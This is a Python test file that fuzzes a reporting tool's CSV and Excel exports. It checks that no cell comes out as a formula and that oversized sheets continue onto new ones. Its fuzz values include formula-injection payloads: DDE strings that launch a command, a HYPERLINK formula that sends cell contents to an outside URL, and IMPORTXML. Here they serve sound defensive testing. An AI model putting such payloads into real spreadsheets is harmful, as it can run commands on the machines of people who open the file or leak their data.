"""F33: no cell of an export is ever a formula, whatever somebody wrote in a post; ten thousand fuzzed cells read again."""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from reports.desk.ask import Answer, Question
from reports.desk.columns import MENTIONS
from reports.desk.export import export, write

ROWS = 2_500  # of four cells
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠", " =", "\u200b=", "\ufeff=", "'=", "=-+@", "\u202e=")
BODIES = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://example.com/?x="&A1,"点这里")', "1+1", "SUM(1,2)", "DDE(\"cmd\";\"/C calc\";\"x\")", "IMPORTXML(\"//a\")",
    "杯子漏水", "", '"', '","=1+1', "\n=1+1", "\r\n=2+2", ";=1", "a\0b", "\ud800", "x" * 50,
)
COLUMNS = tuple(column for column in MENTIONS if column.key in ("id", "title", "text", "product", "topics"))


def cells() -> list[dict[str, Any]]:
    draw = random.Random(33)
    return [
        {"id": number, **{name: draw.choice(STARTS) + draw.choice(BODIES) for name in ("title", "text", "product")}, "topics": [draw.choice(STARTS) + "x"]}
        for number in range(ROWS)
    ]


def answer(rows: list[dict[str, Any]]) -> Answer:
    return Answer("mentions", Question(), (), COLUMNS, iter(rows), len(rows), lambda: ())


@pytest.fixture(scope="module")
def rows() -> list[dict[str, Any]]:
    return cells()


def test_csv_holds_no_formula_and_every_row(rows: list[dict[str, Any]]) -> None:
    text = b"".join(export(answer(rows), "csv")).decode()
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert len(table) == ROWS + 1 and {len(row) for row in table} == {len(COLUMNS)}
    bad = [cell for row in table[1:] for cell in row if cell.lstrip(" \t\r\n\0\u200b\ufeff")[:1] in tuple("=+-@＝＋－＠")]
    assert not bad, bad[:3]
    assert "\0" not in text and "\ufeff" not in text


def test_workbook_holds_no_formula_and_every_row(rows: list[dict[str, Any]], tmp_path: Path) -> None:
    write(answer(rows), "xlsx", tmp_path / "rows.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "rows.xlsx").active
    read = list(sheet.iter_rows())
    assert len(read) == ROWS + 1
    assert {cell.data_type for row in read[1:] for cell in row} <= {"s", "n"}
    bad = [cell.value for row in read[1:] for cell in row if str(cell.value or "")[:1] in tuple("=+-@＝＋－＠")]
    assert not bad and all(cell.hyperlink is None for row in read for cell in row)


def test_a_sheet_that_is_full_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from reports.desk import export as module

    assert module.SHEET_ROWS + 1 == 2**20
    monkeypatch.setattr(module, "SHEET_ROWS", 40)
    write(answer(cells()[:100]), "xlsx", tmp_path / "rows.xlsx")
    book = openpyxl.load_workbook(tmp_path / "rows.xlsx")
    assert [sheet.max_row for sheet in book.worksheets] == [41, 41, 21]
    assert all(sheet.cell(1, 1).value == "编号" for sheet in book.worksheets)
